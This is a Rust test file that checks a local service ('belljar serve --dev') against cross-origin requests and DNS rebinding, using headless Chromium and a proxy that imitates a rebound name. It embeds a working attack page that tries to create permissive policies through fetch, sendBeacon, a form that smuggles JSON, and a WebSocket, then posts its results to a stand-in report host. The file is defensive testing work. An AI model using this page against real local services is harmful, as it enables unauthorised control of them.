//! S9 with a real browser: pages of another origin, and of a name that is rebound to loopback, against `belljar serve --dev`.
//!
//! Every host name of the test leads to a front of its own, which serves the page and the reports itself and passes all other
//! requests to the service. To the browser that is a name that first leads to the attacker and then to loopback, at the same
//! port: what DNS rebinding does.
//!
//! Without the layer `browser::check` each of the three tests of attacks was seen failing: the page defines policies by `fetch`,
//! `sendBeacon` and a form, opens the WebSocket, and reads answers through the rebound name.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use super::Serving;
use crate::harness::{TempDir, Who, finish, is_root, kill_and_wait, spawn};
use crate::machine::absent;

/// How long a browser may take on a busy machine.
const BROWSER_TIMEOUT: Duration = Duration::from_secs(180);
/// How long its last requests may take after its report.
const FIGURE_TIMEOUT: Duration = Duration::from_secs(60);

/// What the page tries. `TARGET` is the service, `SESSION` one of its sessions. A policy is named for the way it came by.
const PAGE: &str = r#"<!doctype html><meta charset=utf-8><link rel=icon href="data:,"><iframe name=sink></iframe><script>
const target = "TARGET", result = {};
const policy = name => JSON.stringify({policy_id: name, extends: "permissive"});
const settled = promise => promise.then(value => value, error => "refused: " + error.name);
async function attack() {
  const post = (mode, type, name) => settled(fetch(target + "/v1/policies", {
    method: "POST", mode, headers: {"content-type": type}, body: policy(name)}).then(answer => answer.type + " " + answer.status));
  result.simple = await post("no-cors", "text/plain", "simple");
  result.typeless = await settled(fetch(target + "/v1/policies", {
    method: "POST", mode: "no-cors", body: new Blob([policy("typeless")])}).then(answer => answer.type + " " + answer.status));
  result.json = await post("cors", "application/json", "json");
  result.read = await settled(fetch(target + "/v1/policies").then(async answer => answer.status + " " + (await answer.text()).length));
  result.description = await settled(fetch(target + "/openapi.json").then(answer => answer.status));
  result.beacon = navigator.sendBeacon(target + "/v1/policies", policy("beacon"));
  result.socket = await new Promise(done => {
    const socket = new WebSocket(target.replace("http", "ws") + "/v1/sessions/SESSION/socket");
    socket.onopen = () => { done("open"); socket.close(); };
    socket.onerror = () => done("refused");
  });
  const form = document.createElement("form"), field = document.createElement("input");
  Object.assign(form, {action: target + "/v1/policies", method: "post", enctype: "text/plain", target: "sink"});
  // name=value of a form is JSON with a `=` in one of its texts.
  field.name = '{"policy_id": "form", "extends": "permissive", "name": "';
  field.value = '"}';
  form.append(field);
  document.body.append(form);
  form.submit();
}
settled(attack()).then(ended => fetch("http://report.example:8000/report", {
  method: "POST", mode: "no-cors", body: JSON.stringify({...result, ended: ended ?? null})}));
</script>"#;

/// Serves the page and takes its report; whatever else is asked of it goes to the service.
struct Front {
    port: u16,
    reports: mpsc::Receiver<Value>,
}

impl Front {
    fn start(service: &str, page: String) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a listener");
        let port = listener.local_addr().expect("an address").port();
        let (sender, reports) = mpsc::channel();
        let service = service.to_owned();
        std::thread::spawn(move || {
            for socket in listener.incoming() {
                let (Ok(socket), sender) = (socket, sender.clone()) else {
                    return;
                };
                let (service, page) = (service.clone(), page.clone());
                std::thread::spawn(move || pass(socket, &service, &page, &sender));
            }
        });
        Self { port, reports }
    }
}

/// Deals with one connection: its first request says where it belongs, and a page's or a report's ends it.
fn pass(mut socket: TcpStream, service: &str, page: &str, reports: &mpsc::Sender<Value>) -> Option<()> {
    let mut came = Vec::new();
    let (head, length) = loop {
        let mut piece = [0; 4096];
        let read = socket.read(&mut piece).ok().filter(|read| *read > 0)?;
        came.extend_from_slice(&piece[..read]);
        let text = String::from_utf8_lossy(&came);
        if let Some((head, _)) = text.split_once("\r\n\r\n") {
            let lower = head.to_lowercase();
            let length = lower
                .lines()
                .find_map(|line| line.strip_prefix("content-length:"));
            let length = length.map_or(0, |length| length.trim().parse().unwrap_or(0));
            break (head.to_owned(), length);
        }
    };
    let answer = |mut socket: &TcpStream, body: &str| {
        write!(
            socket,
            "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
        .ok()
    };
    if head.starts_with("GET /page ") {
        return answer(&socket, page);
    }
    if head.starts_with("POST /report ") {
        let start = head.len() + 4;
        while came.len() < start + length {
            let mut piece = [0; 4096];
            let read = socket.read(&mut piece).ok().filter(|read| *read > 0)?;
            came.extend_from_slice(&piece[..read]);
        }
        let _ = reports.send(serde_json::from_slice(&came[start..]).unwrap_or_default());
        return answer(&socket, "");
    }
    let mut rebound = TcpStream::connect(service).ok()?;
    rebound.write_all(&came).ok()?;
    let (mut from, mut to) = (socket.try_clone().ok()?, rebound.try_clone().ok()?);
    std::thread::spawn(move || {
        let _ = std::io::copy(&mut from, &mut to);
        let _ = to.shutdown(std::net::Shutdown::Write);
    });
    let _ = std::io::copy(&mut rebound, &mut socket);
    let _ = socket.shutdown(std::net::Shutdown::Both);
    Some(())
}

fn chromium() -> Option<PathBuf> {
    let path = std::env::var_os("PATH").unwrap_or_default();
    let found = std::env::split_paths(&path)
        .map(|directory| directory.join("chromium"))
        .find(|program| program.is_file());
    if found.is_none() {
        absent("pages of other origins in a browser", "chromium is not here");
    }
    found
}

/// A browser at an address, which ends with this value.
struct Browser {
    child: Option<Child>,
    _profile: TempDir,
}

impl Browser {
    fn open(program: &PathBuf, front: u16, url: &str, more: &[&str]) -> Self {
        let profile = TempDir::new();
        // In a pid namespace of its own: its helpers outlive it, and would come to us as orphans, for which other tests look.
        let mut command = Command::new("unshare");
        command.args(["--pid", "--fork", "--kill-child", "--mount-proc"]);
        if !is_root() {
            command.args(["--user", "--map-root-user"]);
        }
        command
            .arg(program)
            .args([
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-quic",
                "--no-first-run",
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-sync",
                "--disable-breakpad",
                "--disable-dev-shm-usage",
                "--disable-features=HttpsUpgrades",
            ])
            .arg(format!("--user-data-dir={}", profile.path().display()))
            // No other name leads anywhere.
            .arg(format!(
                "--host-resolver-rules=MAP *.example 127.0.0.1:{front},MAP * ~NOTFOUND,EXCLUDE 127.0.0.1"
            ))
            .args(more)
            .arg(url)
            .env("HOME", profile.path())
            .current_dir("/")
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::null());
        Self {
            child: Some(spawn(&mut command)),
            _profile: profile,
        }
    }

    /// What it writes until it ends by itself.
    fn output(mut self) -> String {
        let child = self.child.take().expect("a browser");
        String::from_utf8_lossy(&finish(child).stdout).into_owned()
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        if let Some(child) = self.child.take() {
            kill_and_wait(child);
        }
    }
}

/// Has a browser open the page by a name, waits for its report and until so many requests were answered with a status, as
/// forms and beacons tell nobody of their end, and gives the report, the policies that are there, and the log.
fn attack(
    name: &str,
    is_rebound: bool,
    options: &[&str],
    refusals: (u16, usize),
) -> Option<(Value, Vec<String>, String)> {
    let program = chromium()?;
    let home = TempDir::new();
    let server = Serving::start(Who::User, &home, &[&["--dev"], options].concat());
    let session = server
        .ask("POST", "/v1/sessions", None, "{}")
        .expect("an answer")
        .1;
    let session = session["session_id"].as_str().expect("a session").to_owned();
    let port = server.address.rsplit(':').next().expect("a port").to_owned();
    // A rebound name has the service's port, as its origin must be the service's address.
    let (target, origin) = match is_rebound {
        true => (format!("http://{name}:{port}"), format!("http://{name}:{port}")),
        false => (
            format!("http://{}", server.address),
            format!("http://{name}:8000"),
        ),
    };
    let page = PAGE.replace("TARGET", &target).replace("SESSION", &session);
    let front = Front::start(&server.address, page);
    let browser = Browser::open(
        &program,
        front.port,
        &format!("{origin}/page"),
        &["--remote-debugging-port=0"],
    );
    let report = front
        .reports
        .recv_timeout(BROWSER_TIMEOUT)
        .expect("a report of the page");
    let counted = format!(
        "belljar_http_requests_total{{status=\"{}\"}} {}",
        refusals.0, refusals.1
    );
    wait_for_figure(&server, &counted);
    drop(browser);
    let policies = server.ask("GET", "/v1/policies", None, "").expect("an answer").1;
    let defined = policies["policies"].as_array().expect("policies").iter();
    let defined = defined
        .filter(|policy| policy["origin"] == "defined")
        .map(|policy| policy["policy"]["policy_id"].as_str().expect("an id").to_owned())
        .collect();
    Some((report, defined, server.end().0))
}

/// Waits until the service counts so many. If it never does, the assertions after it say what came instead.
fn wait_for_figure(server: &Serving, line: &str) {
    let began = Instant::now();
    while began.elapsed() < FIGURE_TIMEOUT {
        let figures = figures(&server.address).expect("figures");
        if figures.lines().any(|found| found == line) {
            return;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn figures(address: &str) -> std::io::Result<String> {
    let mut socket = TcpStream::connect(address)?;
    socket.write_all(b"GET /metrics HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")?;
    let mut answer = String::new();
    socket.read_to_string(&mut answer)?;
    Ok(answer)
}

/// How many requests of that kind were answered with that status.
fn answered(log: &str, request: &str, status: u16) -> usize {
    let status = format!("status={status} ");
    log.lines()
        .filter(|line| line.contains(request) && line.contains(&status))
        .count()
}

#[test]
fn s9_a_page_of_another_origin_does_nothing() {
    let Some((report, defined, log)) = attack("evil.example", false, &[], (403, 8)) else {
        return;
    };
    assert_eq!(defined, [""; 0], "{report}");
    assert_eq!(report["ended"], Value::Null, "the page did not end: {report}");
    // An opaque answer tells a page nothing, so the log has to say that they came and were refused.
    assert_eq!(
        (&report["simple"], &report["typeless"]),
        (&json!("opaque 0"), &json!("opaque 0")),
        "{report}"
    );
    assert_eq!(
        (&report["json"], &report["read"]),
        (&json!("refused: TypeError"), &json!("refused: TypeError")),
        "{report}"
    );
    assert_eq!(
        (&report["socket"], &report["description"]),
        (&json!("refused"), &json!("refused: TypeError")),
        "{report}"
    );
    assert_eq!(
        answered(&log, "method=POST route=/v1/policies", 403),
        4,
        "fetch twice, beacon, form: {log}"
    );
    assert_eq!(
        answered(&log, "method=OPTIONS route=/v1/policies", 403),
        1,
        "{log}"
    );
    assert_eq!(answered(&log, "route=/v1/sessions/{id}/socket", 403), 1, "{log}");
}

#[test]
fn s9_a_page_whose_name_is_rebound_to_loopback_does_nothing() {
    let Some((report, defined, log)) = attack("rebind.example", true, &[], (403, 8)) else {
        return;
    };
    assert_eq!(defined, [""; 0], "{report}");
    assert_eq!(report["ended"], Value::Null, "the page did not end: {report}");
    // To the browser it is the same origin: it shows the page every answer.
    assert_eq!(
        (&report["simple"], &report["json"]),
        (&json!("basic 403"), &json!("basic 403")),
        "{report}"
    );
    assert!(
        report["read"]
            .as_str()
            .is_some_and(|read| read.starts_with("403 ")),
        "{report}"
    );
    assert_eq!(
        (&report["socket"], &report["description"]),
        (&json!("refused"), &json!(403)),
        "{report}"
    );
    assert_eq!(answered(&log, "method=POST route=/v1/policies", 403), 5, "{log}");
}

/// The control: the same page, by a name that the operator allows, is of the service's own origin and is served.
#[test]
fn s9_a_page_of_an_allowed_name_is_served() {
    let Some((report, defined, _)) =
        attack("own.example", true, &["--allowed-host", "own.example"], (415, 4))
    else {
        return;
    };
    // Forms and beacons have types that the service does not read from anybody.
    assert_eq!(defined, ["json"], "{report}");
    assert_eq!(
        (&report["simple"], &report["json"]),
        (&json!("basic 415"), &json!("basic 200")),
        "{report}"
    );
    assert!(
        report["read"]
            .as_str()
            .is_some_and(|read| read.starts_with("200 ")),
        "{report}"
    );
    assert_eq!(
        (&report["socket"], &report["description"]),
        (&json!("open"), &json!(200)),
        "{report}"
    );
}

/// People read the service's own page, at its address and as localhost.
#[test]
fn s9_the_services_own_page_is_shown() {
    let Some(program) = chromium() else { return };
    let home = TempDir::new();
    let server = Serving::start(Who::User, &home, &["--dev"]);
    let shown = Browser::open(
        &program,
        9,
        &format!("http://{}/docs", server.address),
        &["--dump-dom"],
    )
    .output();
    assert!(shown.contains("/v1/executions/{id}/cancel"), "{shown}");
    server.end();
}
